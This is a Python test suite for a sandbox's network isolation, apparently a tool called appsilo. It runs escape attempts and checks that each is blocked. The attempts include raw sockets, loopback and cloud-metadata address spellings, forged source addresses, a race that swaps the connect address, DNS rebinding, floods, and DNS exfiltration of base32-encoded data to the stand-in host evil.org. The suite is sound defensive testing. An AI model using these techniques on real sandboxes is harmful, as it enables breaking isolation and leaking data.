# SPDX-License-Identifier: Apache-2.0
"""Ways out of the sandbox by its network (C9, C10, N14, N15): other protocols and sockets,
spellings of near addresses, forged and odd packets, names as a channel, a network that is
killed or stalled, floods. Everything is counted where it would arrive."""
import ctypes
import os
import resource
import signal
import socket
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import host_net  # noqa: E402

host_net.enter()

from common import LOG, named  # noqa: E402
from host_net import BY_PACKETS, METADATA, OTHER, PRIVATE, PUBLIC, PUBLIC6, TRY, deaf  # noqa: E402
from lab import CALL, HOME, PLACE, STATE, WORK, Attack, main, read, write  # noqa: E402

HOST = host_net.Host(PLACE)
CLIENT = ("--net", "client")


class Network(Attack):
    def setUp(self):
        super().setUp()
        HOST.clear()

    def say(self, code, *options):
        done = self.run_app("python3", "-c", CALL + TRY + code, prompt="never", options=options, timeout=120)
        self.assertEqual(done.returncode, 0, done.stderr)
        return done.stdout.split()

    def assertSilence(self):
        self.assertEqual((HOST.calls, HOST.queries), ([], []))

    def test_c9_nothing_granted_nothing_leaves(self):
        code = (f"for a in ('{PUBLIC}', '{OTHER}', '{PRIVATE}'):\n"
                "    print(tcp(a), udp(a), udp(a, 443), udp(a, 53))\n"
                "print(name('allowed.example.org').replace(' ', '-'), name('secret.evil.org').replace(' ', '-'))\n")
        self.assertEqual(self.say(code, "--allow-host", "nobody.example.org"),
                         ["EACCES", "EHOSTUNREACH", "EHOSTUNREACH", "EHOSTUNREACH"] * 3 + ["no-name"] * 2)
        self.assertSilence()
        self.assertEqual(set(self.say(code)[:12]), {"ENETUNREACH"})
        self.assertSilence()

    def test_the_process_that_reads_packets_is_fenced(self):
        # Whoever starts it may hand capabilities on: PR_CAP_AMBIENT_RAISE of CAP_NET_RAW.
        libc = ctypes.CDLL(None)
        app = self.start("sh", "-c", "echo UP; read x", prompt="never", options=CLIENT,
                         preexec_fn=lambda: libc.prctl(47, 2, 13, 0, 0))
        self.assertEqual(app.stdout.readline(), "UP\n")
        found = named(app.pid, "appsilo-net")
        self.assertEqual(len(found), 1)
        lines = read(f"/proc/{found[0]}/status").splitlines()
        status = dict(line.split(":\t") for line in lines if ":\t" in line)
        self.assertEqual([status[k] for k in ("Seccomp", "NoNewPrivs", "CapEff", "CapPrm")], ["2", "1", "0" * 16, "0" * 16])

    def test_c9_unix_sockets_of_the_host(self):
        path, name = WORK + "/docker.sock", "\0appsilo-test-" + str(os.getpid())
        servers = []
        for where in (path, name):
            server = socket.socket(socket.AF_UNIX)
            server.bind(where)
            server.listen()
            servers.append(server)
        code = (f"for where in ({path!r}, {name!r}, '/run/docker.sock', '/run/dbus/system_bus_socket'):\n"
                "    print(attempt(lambda: socket.socket(socket.AF_UNIX).connect(where)))\n")
        said = self.say(code, *CLIENT)
        self.assertNotIn("ok", said)
        self.assertEqual(said[1], "ECONNREFUSED")  # the other namespace's
        for server in servers:
            server.close()

    def test_c9_other_families_and_raw_sockets(self):
        code = ("for family, kind, protocol in ((2, 3, 6), (2, 3, 255), (10, 3, 58), (17, 3, 768), (17, 2, 768),\n"
                "                               (16, 3, 0), (40, 1, 0), (44, 3, 0), (2, 10, 0)):\n"
                "    print(attempt(lambda: socket.socket(family, kind, protocol)))\n"
                "print(attempt(lambda: os.open('/dev/net/tun', os.O_RDWR)))\n"
                "print(attempt(lambda: socket.socket().setsockopt(0, 19, 1)))\n"    # IP_TRANSPARENT
                "print(attempt(lambda: socket.socket().setsockopt(1, 36, 1)))\n")   # SO_MARK
        said = self.say(code, *CLIENT)
        self.assertNotIn("ok", said)
        self.assertEqual(said[-3:], ["ENOENT", "EPERM", "EPERM"])
        self.assertEqual(self.say(f"print(tcp('{PUBLIC}'))", *CLIENT), ["200"])

    def test_c10_every_spelling_of_what_is_near(self):
        near = ("127.0.0.1", "127.0.0.53", "0.0.0.0", "192.0.0.1", "192.0.0.3", PRIVATE, "192.168.7.7", METADATA,
                "100.100.100.200", "255.255.255.255", "224.0.0.1")
        near6 = ("::1", "::", "::ffff:127.0.0.1", f"::ffff:{PRIVATE}", f"::ffff:{METADATA}", f"::{PRIVATE}",
                 "64:ff9b::7f00:1", "64:ff9b::a09:807", "64:ff9b::a9fe:a9fe", "2002:7f00:1::", "2002:a09:807::1",
                 "fd00:ec2::254", "fd61:7070:7369:6c6f::1", "fd61:7070:7369:6c6f::3", "fe80::1", "ff02::1")
        code = (f"for a in {near!r}:\n    print(tcp(a))\n"
                f"for a in {near6!r}:\n    print(tcp(a, 80, socket.AF_INET6))\n"
                "for a in ('127.1', '2130706433', '0x7f.1', '0'):\n    print(tcp(a))\n"
                f"for a in {near[3:9]!r}:\n    print(udp(a), udp(a, 67), udp(a, 69), udp(a, 53))\n")
        said = self.say(code, *CLIENT)
        self.assertEqual(len(said), len(near) + len(near6) + 4 + 24)
        self.assertFalse({"200", "1"} & set(said), said)
        self.assertSilence()

    def test_forged_source_addresses(self):
        """Anybody may bind any IPv6 address (IPV6_FREEBIND): replies, and blame, would go there."""
        code = ("s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(41, 78, 1)\n"
                f"s.bind(('2a00:1:2:3::9', 0)); print(attempt(lambda: s.sendto(b'forged', ('{PUBLIC6}', 7))))\n"
                f"print(udp('{PUBLIC}'))\n")
        self.assertEqual(self.say(code, *CLIENT), ["ok", "1"])
        self.assertEqual(HOST.calls, [("udp", b"x")])

    def test_options_and_fragments_do_not_leave(self):
        """With some, other hosts than the one that was judged take part; of fragments, only the
        first says where it goes."""
        code = ("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "print(attempt(lambda: s.setsockopt(0, 4, bytes([7, 7, 4, 0, 0, 0, 0, 0]))))\n"
                f"print(attempt(lambda: s.sendto(b'plain', ('{PUBLIC}', 7))))\n"
                "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.setsockopt(0, 10, 0)\n"
                f"print(attempt(lambda: u.sendto(bytes(65507), ('{PUBLIC}', 7)))); print(udp('{PUBLIC}', 7, b'after'))\n")
        self.assertEqual(self.say(code, *CLIENT), ["EPERM", "ok", "ok", "5"])
        self.assertEqual(HOST.calls, [("udp", b"plain"), ("udp", b"after")])

    def test_fast_open_to_a_refused_host(self):
        code = (f"for where in ('{PRIVATE}', '{OTHER}'):\n"
                "    s = socket.socket(); s.settimeout(20)\n"
                "    print(attempt(lambda: s.sendto(b'early', 0x20000000, (where, 80))))\n"
                "    s = socket.socket(); s.settimeout(20); s.setsockopt(6, 30, 1)\n"
                "    attempt(lambda: s.connect((where, 80))); print(attempt(lambda: s.sendall(b'early')))\n")
        self.assertNotIn("ok", self.say(code, "--allow-host", PUBLIC))
        self.assertSilence()

    def test_ports_are_used_again(self):
        """Allowed once is one connection: the next from the same port is asked about again."""
        write(PLACE + "/first.py", "import json, sys\nn = 0\nfor line in sys.stdin:\n    q = json.loads(line); n += q['kind'] == 'network'\n"
              "    print(json.dumps({'v': 1, 'id': q['id'], 'decision': 'allow' if n < 2 else 'deny', 'scope': 'once'}), flush=True)\n")
        code = ("for i in range(2):\n"
                "    s = socket.socket(); s.setsockopt(1, 2, 1); s.setsockopt(1, 13, bytes([1, 0, 0, 0, 0, 0, 0, 0])); s.bind(('192.0.0.2', 4000))\n"
                f"    print(attempt(lambda: s.connect(('{PUBLIC}', 80)))); s.close()\n")
        done = self.run_app("python3", "-c", CALL + TRY + code, prompt=f"exec:python3 {PLACE}/first.py", timeout=120)
        self.assertEqual(done.stdout.split(), ["ok", "ECONNREFUSED"], done.stderr)

    def test_n15_address_flipped_by_another_thread(self):
        """The packet that was judged is the packet that goes."""
        code = ("import ctypes, threading\n"
                "buf = ctypes.create_string_buffer(16)\n"
                f"good = b'\\2\\0' + (80).to_bytes(2, 'big') + socket.inet_aton('{PUBLIC}') + bytes(8)\n"
                f"bad = b'\\2\\0' + (80).to_bytes(2, 'big') + socket.inet_aton('{OTHER}') + bytes(8)\n"
                "stop = False\n"
                "def flip():\n"
                "    while not stop:\n"
                "        ctypes.memmove(buf, bad, 16); ctypes.memmove(buf, good, 16)\n"
                "t = threading.Thread(target=flip); t.start()\n"
                "for i in range(300):\n"
                "    s = socket.socket(); libc.connect(s.fileno(), buf, 16); s.close()\n"
                "stop = True; t.join(); ctypes.memmove(buf, good, 16)\n"
                "s = socket.socket(); print(libc.connect(s.fileno(), buf, 16))\n")
        self.assertEqual(self.say(code, "--allow-host", PUBLIC), ["0"])
        self.assertEqual({call[1] for call in HOST.calls}, {PUBLIC})

    def test_names_are_no_channel(self):
        code = ("import base64\n"
                "def ask(message):\n"
                "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.connect(('127.0.0.1', 53))\n"
                "    s.send(message); return s.recv(4096)[3] & 15\n"
                "def query(host, kind):\n"
                "    return (b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(p)]) + p.encode() for p in host.split('.'))\n"
                "            + bytes([0, 0, kind, 0, 1]))\n"
                "secret = '.'.join(base64.b32encode(os.urandom(35)).decode().strip('=') for _ in range(3)) + '.evil.org'\n"
                "for kind in (1, 28, 16, 15, 33, 12, 65, 255, 5, 2):\n"
                "    print(ask(query(secret, kind)), ask(query('allowed.example.org', kind)))\n"
                "print(ask(query('allowed.example.org.evil.org', 1)), ask(query('ALLOWED.Example.ORG', 1)))\n")
        said = self.say(code, "--allow-host", "allowed.example.org")
        self.assertEqual(said[:4], ["3", "0", "3", "0"])
        self.assertEqual(said[-2:], ["3", "0"])
        self.assertEqual({query for query in HOST.queries}, {("allowed.example.org", kind) for kind in ("A", "AAAA", "SRV")})

    def test_rebinding(self):
        """A public name that leads to what is near the user."""
        code = ("print(name('rebind.example.org').replace(' ', '-'), name('mixed.example.org', socket.AF_INET))\n"
                f"print(tcp('{PRIVATE}'), tcp('127.0.0.1'))\n")
        for options in (CLIENT, ("--allow-host", "*.example.org")):
            self.assertEqual(self.say(code, *options), ["no-name", PUBLIC, "EACCES", "ECONNREFUSED"])
        self.assertEqual(HOST.calls, [])
        self.assertEqual(self.say("print(name('rebind.example.org'))", "--net", "private"), [PRIVATE])

    def test_malformed_queries_and_then_a_good_one(self):
        code = ("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 53))\n"
                "import random\n"
                "random.seed(1)\n"
                "for i in range(3000):\n"
                "    s.send(bytes(random.choice((0, 0, 1, 5, 63, 192, 255, random.randrange(256))) for _ in range(random.randrange(600))))\n"
                "for body in (b'', b'\\0', b'\\0\\1', b'\\0\\0', b'\\xff\\xff' + bytes(70000), b'\\0\\5abcde'):\n"
                "    c = socket.create_connection(('127.0.0.1', 53)); attempt(lambda: c.sendall(body)); c.close()\n"
                "held = [socket.create_connection(('127.0.0.1', 53)) for _ in range(20)]\n"
                "print(name('allowed.example.org', socket.AF_INET))\n")
        self.assertEqual(self.say(code, *CLIENT), [PUBLIC])

    def waiting(self, code, *options):
        """A run that prints a line, waits for one, and goes on."""
        app = self.start("python3", "-c", CALL + TRY + "print('up', flush=True); input()\n" + code,
                         prompt="never", options=options)
        self.assertEqual(app.stdout.readline(), "up\n")
        net = named(app.pid, "appsilo-net")
        self.assertEqual(len(net), 1)
        return app, net[0]

    def assertEndsWithItsNetwork(self, app, net, call=""):
        """However long the program would have waited."""
        os.kill(net, signal.SIGKILL)
        self.wait_until(lambda: app.poll() is not None, f"the run waits for its network: {call}", 60)
        out, err = app.communicate()
        self.assertEqual((app.returncode, out), (125, ""), err)
        self.assertIn("network died unexpectedly", err)
        self.assertEqual(err.count("\n"), 1, err)

    def test_n14_killed_network(self):
        app, net = self.waiting("", *CLIENT)
        self.assertEndsWithItsNetwork(app, net)
        self.assertSilence()

    def test_n14_killed_while_calls_wait(self):
        """None of these calls has a time-out, and the kernel would let each wait for ever, or for
        minutes: in both modes the run ends instead, and says why."""
        calls = {"receive": f"s = socket.create_connection(('{PUBLIC}', 80)); up(); s.recv(1)",
                 "send": f"s = socket.create_connection(('{PUBLIC}', 80)); s.sendall(b'echo'); up()\nwhile True: s.send(bytes(1 << 16))",
                 "connect": f"s = socket.socket(); s.setblocking(False); s.connect_ex(('{OTHER}', 9)); up(); select.select([], [s], [])",
                 "datagram": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                             f"s.connect(('{PUBLIC}', 7)); s.send(b'x'); s.recv(1); up(); s.recv(1)"}
        start = "import select\ndef up(): print('up', flush=True)\n"
        self.addCleanup(deaf(OTHER, 9))
        for prompt, options in (("never", CLIENT), (None, ("--allow-host", PUBLIC, "--allow-host", OTHER))):
            for call, code in calls.items():
                app = self.start("python3", "-c", TRY + BY_PACKETS + start + code, prompt=prompt, options=options)
                self.assertEqual(app.stdout.readline(), "up\n", call)
                self.assertEndsWithItsNetwork(app, named(app.pid, "appsilo-net")[0], call)

    def test_n14_killed_before_an_answer(self):
        """The run opens no host by its words: its network is started by what wants to go out."""
        write(PLACE + "/never.py", "import json, sys\nfor line in sys.stdin:\n    q = json.loads(line)\n    if q['kind'] == 'network':\n"
              f"        open({LOG!r}, 'a').write(line); continue\n"
              "    print(json.dumps({'v': 1, 'id': q['id'], 'decision': 'allow', 'scope': 'once'}), flush=True)\n")
        app = self.start("python3", "-c", TRY + f"udp('{PUBLIC}')", prompt=f"exec:python3 {PLACE}/never.py")
        self.wait_until(self.questions, "nobody was asked")
        self.assertEndsWithItsNetwork(app, named(app.pid, "appsilo-net")[0])
        self.assertSilence()

    def test_thousands_of_connects_that_wait(self):
        """Nobody answers them; the neighbour's connections and look-ups do not suffer, and their
        places are free again."""
        self.addCleanup(deaf(OTHER, 9))
        code = ("import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))\n"
                "for i in range(3):\n    held = []\n"
                "    for i in range(3000):\n"
                f"        s = socket.socket(); s.setblocking(False); held.append(s); s.connect_ex(('{OTHER}', 9))\n"
                f"    print(tcp('{PUBLIC}'), udp('{PUBLIC}'), name('allowed.example.org', socket.AF_INET), tcp('{PRIVATE}'))\n")
        if resource.getrlimit(resource.RLIMIT_NOFILE)[1] < 4096:
            self.skipTest("too few descriptors to have: ulimit -Hn")
        self.assertEqual(self.say(code, *CLIENT), ["200", "1", PUBLIC, "EACCES"] * 3)

    def test_n14_stalled_network(self):
        app, net = self.waiting(BY_PACKETS + "s = socket.socket(); s.settimeout(0.5)\n"
                                f"print(s.connect_ex(('{PUBLIC}', 80)) != 0, flush=True); input(); print(tcp('{PUBLIC}'))", *CLIENT)
        os.kill(net, signal.SIGSTOP)
        app.stdin.write("\n")
        app.stdin.flush()
        self.assertEqual(app.stdout.readline(), "True\n")
        self.assertSilence()
        os.kill(net, signal.SIGCONT)
        out, _ = app.communicate("\n", timeout=60)
        self.assertEqual(out.split(), ["200"])

    def test_n14_stalled_judge(self):
        """A call waits for whoever carries it out, and a signal ends the wait."""
        code = ("import signal\n"
                "def late(*_): raise TimeoutError(errno.ETIMEDOUT, '')\n"
                "signal.signal(signal.SIGALRM, late)\n"
                "signal.setitimer(signal.ITIMER_REAL, 0.5)\n"
                f"print(tcp('{PUBLIC}'), flush=True); input(); print(tcp('{PUBLIC}'))")
        app, _ = self.waiting(code, *CLIENT)
        os.kill(app.pid, signal.SIGSTOP)
        app.stdin.write("\n")
        app.stdin.flush()
        self.assertEqual(app.stdout.readline(), "ETIMEDOUT\n")
        self.assertSilence()
        os.kill(app.pid, signal.SIGCONT)
        out, _ = app.communicate("\n", timeout=60)
        self.assertEqual(out.split(), ["200"])

    def test_n14_launcher_killed(self):
        app, net = self.waiting("", *CLIENT)
        app.kill()
        app.wait(60)
        self.wait_until(lambda: not os.path.exists(f"/proc/{net}"), "appsilo-net outlives the launcher")

    def test_n14_no_descriptors_left(self):
        """Connections beyond what the network can have fail; none of them passes unjudged."""
        code = ("held = []\n"
                "for i in range(400):\n"
                f"    s = socket.socket(); s.setblocking(False); held.append(s); s.connect_ex(('{PRIVATE}' if i % 2 else '{PUBLIC}', 80))\n"
                "time.sleep(0.2); del held[:]\n"
                f"print(tcp('{PUBLIC}'), tcp('{PRIVATE}'))\n")
        done = subprocess.run(["sh", "-c", "ulimit -n 100; exec \"$@\"", "sh", os.environ["APPSILO"], "run", "--prompt", "never",
                               *CLIENT, "--", "sh", "-c", "ulimit -n 100; exec python3 -c \"$0\"",
                               CALL + TRY + code.replace("range(400)", "range(80)")],
                              capture_output=True, text=True, timeout=120, cwd=WORK, stdin=subprocess.DEVNULL, check=False)
        self.assertEqual(done.stdout.split()[-1:], ["EACCES"], done)
        self.assertNotIn(PRIVATE, {call[1] for call in HOST.calls})

    def test_floods_leave_the_neighbour_alone(self):
        code = ("for i in range(6000):\n"
                "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                f"    attempt(lambda: s.sendto(b'', ('{PRIVATE}', 1 + i))); s.close()\n"
                f"print(tcp('{PUBLIC}'), tcp('{PRIVATE}'), name('allowed.example.org', socket.AF_INET))\n")
        self.assertEqual(self.say(code, *CLIENT), ["200", "EACCES", PUBLIC])
        self.assertEqual(HOST.calls, [("tcp", PUBLIC, 80)])

    def test_what_is_recorded_is_bounded(self):
        code = ("for i in range(11000):\n"
                f"    s = socket.socket(); attempt(lambda: s.connect(('{PRIVATE}', 1 + i))); s.close()\n"
                f"print(tcp('{PUBLIC}'))\n")
        self.assertEqual(self.say(code, *CLIENT), ["200"])
        records = os.listdir(STATE + "/runs")
        self.assertEqual(len(records), 1)
        self.assertEqual(len(read(STATE + "/runs/" + records[0]).splitlines()), 10000)

    def test_questions_are_bounded(self):
        """While nobody answers, the packets that wait are few, the rest is refused, and about that
        nobody is asked."""
        write(PLACE + "/late.py", "import glob, json, sys, time\n"
              "for line in sys.stdin:\n"
              "    q = json.loads(line); file = q['kind'] == 'file'\n"
              f"    if not file:\n        open({LOG!r}, 'a').write(line)\n"
              f"    while not file and not glob.glob('{HOME}/.local/share/appsilo/profiles/*/full'):\n        time.sleep(0.01)\n"
              "    print(json.dumps({'v': 1, 'id': q['id'], 'decision': 'allow' if file else 'deny', 'scope': 'once'}), flush=True)\n")
        code = ("held = []\nrefused = 0\n"
                "def wait(n):\n"
                "    global refused; end = time.monotonic() + 60\n"
                "    while refused < n and time.monotonic() < end:\n"
                "        time.sleep(0.01); refused += sum(s.getsockopt(1, 4) == errno.ECONNREFUSED for s in held)\n"
                "    print(refused >= n)\n"
                "for i in range(200):\n"
                "    s = socket.socket(); s.setblocking(False); held.append(s); s.connect_ex(('1.2.9.' + str(i), 80))\n"
                f"wait(200 - 64); print(tcp('{PUBLIC}')); open(os.environ['HOME'] + '/full', 'w').close(); wait(200)\n")
        done = self.run_app("python3", "-c", CALL + TRY + code, prompt=f"exec:python3 {PLACE}/late.py",
                            options=("--allow-host", PUBLIC), timeout=150)
        self.assertEqual(done.stdout.split(), ["True", "200", "True"], done.stderr)
        self.assertLessEqual(len(self.questions()), 64)


main()
